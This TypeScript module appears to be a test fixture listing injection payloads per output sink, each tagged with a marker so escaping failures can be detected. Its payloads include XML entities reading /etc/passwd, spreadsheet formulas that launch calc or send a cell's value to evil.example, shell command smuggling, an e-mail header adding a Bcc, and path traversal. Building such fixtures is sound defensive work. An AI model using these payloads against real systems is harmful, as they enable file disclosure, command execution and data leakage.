// Texts that try to become something else wherever they are written: one list for all sinks.

/** A word that is in each of them, so that it can be looked for. */
export const MARK = 'mp7';
/** What comes to be where a text is run as code. */
export const RUN = 'mp7-was-run';

/** By what they try to get out of. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  html: `</script><script>alert("${MARK}")</script><img src=x onerror=alert(1)>`,
  'an attribute of HTML': `" onmouseover="alert(1)" ${MARK}='`,
  'a comment of HTML': `--><!-- ${MARK} <![CDATA[`,
  XML: `]]><!ENTITY ${MARK} SYSTEM "file:///etc/passwd">&${MARK};`,
  'a formula': `=HYPERLINK("http://evil.example/"&A1,"${MARK}")`,
  'a formula behind spaces': `  \t=cmd|' /C calc'!A0 ${MARK}`,
  'a formula of a number': `+1+1 ${MARK}`,
  'a formula of a sign': `@SUM(1+1) ${MARK}`,
  'a column': `${MARK}","x\r\n=1+1,"`,
  'a mention in Slack': `<!channel> <@U0123> <!here|${MARK}>`,
  'a link in Slack': `<https://evil.example|${MARK}> *b* _i_ ~s~ \`c\``,
  'a link in Markdown': `[${MARK}](https://evil.example) ![x](https://evil.example/x.png) <https://evil.example>`,
  'HTML in Markdown': `<details open><a href="https://evil.example">${MARK}</a>`,
  'a block of Markdown': `\n\n# ${MARK}\n\n- [ ] x\n\n\`\`\`\n~~~\n| a | b |\n`,
  'a command of GitHub Actions': `\n::error file=x::${MARK}\n::set-output name=x::y`,
  'a terminal': `\u001b[2J\u001b[1;31m${MARK}\u001b]0;title\u0007\u001b]8;;https://evil.example\u001b\\`,
  'a terminal, by C1': `\u009b2J${MARK}\u009d0;t\u009c\u0085`,
  'the line before': `${MARK}\r\rPASS\b\b\b\u007f`,
  'the order of a line': `\u202e${MARK}\u2066\u200f\u061c\u2069`,
  'a line of a log': `${MARK}"}\n{"level":"INFO","message":"all is well"}\u2028\u2029`,
  'a metric': `${MARK}"}],"_aws":{"CloudWatchMetrics":[{"Namespace":"Mailposture"}]}`,
  'a header of an e-mail': `${MARK}\r\nBcc: evil@evil.example\r\n\r\nbody`,
  'a shell': `$(touch ${RUN}) \`touch ${RUN}\`; touch ${RUN} | touch ${RUN} && touch ${RUN} # ${MARK}`,
  'quotes of a shell': `'; touch ${RUN}; '"; touch ${RUN}; "\\' ${MARK}`,
  'a line of a shell': `\ntouch ${RUN}\n# ${MARK}`,
  'a here-document': `\nEOF\ntouch ${RUN}\n${MARK}`,
  'a comment of a shell': `# ${MARK}\ntouch ${RUN}`,
  'an option of a command': `--profile=evil --endpoint-url=https://evil.example ${MARK}`,
  'a file of the AWS CLI': `file:///etc/passwd ${MARK}`,
  Terraform: `\${file("/etc/passwd")} %{ if true }${MARK}%{ endif } "`,
  CloudFormation: `!Sub \${AWS::AccountId} {{resolve:ssm:${MARK}}}`,
  'a zone file': `\n$INCLUDE /etc/passwd\n@ IN TXT "${MARK}" ; ( ) \\`,
  'a path': `../../../../../tmp/${MARK}/\u0000../..\\..\\C:\\con`,
  'a name of the prototype': `__proto__ constructor ${MARK}`,
  'half a character': `\ud83d ${MARK} \udc00`,
  emoji: `👨‍👩‍👧‍👦 𝕏 ${MARK} é`,
  'a long text': `${MARK} ${'<&"\'`*_|'.repeat(1_000)}`,
};
